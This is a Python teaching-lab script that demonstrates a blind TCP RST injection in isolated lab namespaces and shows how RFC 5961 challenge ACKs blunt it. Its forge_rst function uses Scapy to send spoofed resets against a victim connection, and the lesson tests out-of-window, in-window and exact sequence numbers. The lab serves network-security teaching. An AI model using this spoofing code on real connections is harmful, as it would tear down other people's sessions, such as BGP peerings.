"""Lab 10: a blind RST injection, and the RFC 5961 challenge ACK.

tcpscapy's client (10.77.0.1) talks to a kernel echo server (10.77.0.2). The
attacker host (10.77.0.3) is not on the path -- it cannot see their segments
-- but knows the addresses and ports (think of a BGP session on port 179).
It forges RSTs that claim to come from the server, built with Scapy and sent
from its own namespace. It must guess the sequence number:

* far outside the receive window: the RST is dropped silently;
* inside the window but not exactly RCV.NXT: before RFC 5961 this reset the
  connection (an attacker needed only 2^32 / window guesses); now the victim
  answers with a *challenge ACK* to the real peer and carries on -- a real
  peer that had sent the RST would answer that ACK with an exact RST;
* exactly RCV.NXT: the connection is reset. A blind attacker hits this once
  in 2^32 tries; an attacker who can see the traffic hits it at once. The
  server does not know yet: the next segment it sends will meet a closed
  port on the client and draw an RST.

The lab reads the victim's RCV.NXT to stand in for the attacker's luck.
"""

from __future__ import annotations

import time

from labkit import ATTACKER, CLIENT, SERVER, Lesson, kernel_server, run, segments

import tcpscapy
from tcpscapy.core.segment import ACK, RST
from tcpscapy.core.state import State
from tcpscapy.io.rawsock import Link, open_link
from tcpscapy.lab import Lab
from tcpscapy.trace import TraceEntry

PORT = 179
SETTLE = 0.3  # seconds to watch for the victim's reaction


def forge_rst(link: Link, victim_port: int, seq: int) -> None:
    """The attacker's RST, claiming to come from the server."""
    from scapy.layers.inet import IP, TCP

    link.send(bytes(IP(src=SERVER, dst=CLIENT) /
                    TCP(sport=PORT, dport=victim_port, flags="R", seq=seq % 2**32)))


def recorded(conn: tcpscapy.Connection) -> list[TraceEntry]:
    with conn.driver.lock:  # the driver appends from its own thread
        return list(conn.trace)


def quiet(conn: tcpscapy.Connection) -> int:
    """Wait until the connection has nothing in flight (delayed ACKs sent, data acked),
    so all that follows is the reaction to the attack; returns the trace's length."""
    deadline = time.monotonic() + 3.0
    count = len(recorded(conn))
    while time.monotonic() < deadline:
        time.sleep(SETTLE)
        now = len(recorded(conn))
        if now == count:
            break
        count = now
    return count


def reaction(conn: tcpscapy.Connection, before: int) -> list[TraceEntry]:
    """What the victim recorded after the forged RST: the RST, then its answers."""
    time.sleep(SETTLE)
    return recorded(conn)[before:]


def lesson(lab: Lab, les: Lesson) -> None:
    kernel_server(lab, "server", PORT, "echo")
    with lab.enter("client"):
        conn = tcpscapy.connect(SERVER, PORT, msl=0.2)
    conn.sendall(b"hello")
    assert conn.recv(timeout=3) == b"hello"
    with lab.enter("attacker"):
        link = open_link(CLIENT)  # the attacker's own raw socket, on its own host
    victim_port = conn.local[1]
    engine = conn.engine
    window = (engine.rcv_adv - engine.rcv_nxt) % 2**32
    les.say(f"victim {CLIENT}:{victim_port}, peer {SERVER}:{PORT}; the victim's receive "
            f"window is {window} bytes wide from RCV.NXT={engine.rcv_nxt}")

    les.section(f"1. the attacker ({ATTACKER}) guesses far outside the window")
    before = quiet(conn)
    les.say(f"forged RST with seq {(engine.rcv_nxt + 2**31) % 2**32}")
    forge_rst(link, victim_port, engine.rcv_nxt + 2**31)
    seen = reaction(conn, before)
    les.ladder(seen, "the victim's view (absolute numbers)", absolute=True)
    les.check("the victim received the forged RST", any(
        e.direction == "in" and e.segment and e.segment.flags & RST for e in seen))
    les.check("and ignored it: no answer, still ESTABLISHED",
              not segments(seen, "out") and conn.state is State.ESTABLISHED)

    les.section("2. a guess inside the window, but not RCV.NXT")
    before = quiet(conn)
    snd_nxt, rcv_nxt = engine.snd_nxt, engine.rcv_nxt
    les.say(f"forged RST with seq {(rcv_nxt + window // 2) % 2**32}: in the window, "
            f"{window // 2} above RCV.NXT")
    forge_rst(link, victim_port, rcv_nxt + window // 2)
    seen = reaction(conn, before)
    les.ladder(seen, "the victim's view: a challenge ACK goes to the real server",
               absolute=True)
    answers = [e.segment for e in segments(seen, "out")]
    les.check("the victim answered with one challenge ACK (RFC 5961 §3.2)",
              len(answers) == 1 and answers[0].flags == ACK and answers[0].seq == snd_nxt
              and answers[0].ack == rcv_nxt and answers[0].dst == SERVER)
    les.check("the connection survived the in-window RST", conn.state is State.ESTABLISHED)
    conn.sendall(b"still here")
    les.check("and still carries data", conn.recv(timeout=3) == b"still here")

    les.section("3. the exact sequence number (an on-path attacker, or 1 in 2^32 luck)")
    before = quiet(conn)
    les.say(f"forged RST with seq {engine.rcv_nxt} = RCV.NXT")
    forge_rst(link, victim_port, engine.rcv_nxt)
    seen = reaction(conn, before)
    link.close()
    les.ladder(seen, "the victim's view: reset", absolute=True)
    established = lab.run("server", ["ss", "-Htn", "state", "established", "dport",
                                     f"= :{victim_port}"], capture_output=True,
                          text=True).stdout.strip()
    les.say(f"the victim: {conn.state} ({conn.close_reason}); the server still has: "
            f"{established or '(nothing)'}")
    les.check("the exact RST reset the victim's connection",
              conn.state is State.CLOSED and not segments(seen, "out"))
    les.check("the real server never knew: its side is still ESTABLISHED",
              f":{victim_port}" in established)
    les.fact("guesses_needed", {"before RFC 5961": 2**32 // max(window, 1),
                                "with RFC 5961": 2**32})


if __name__ == "__main__":
    run(10, "A blind RST injection and the RFC 5961 challenge ACK", lesson)
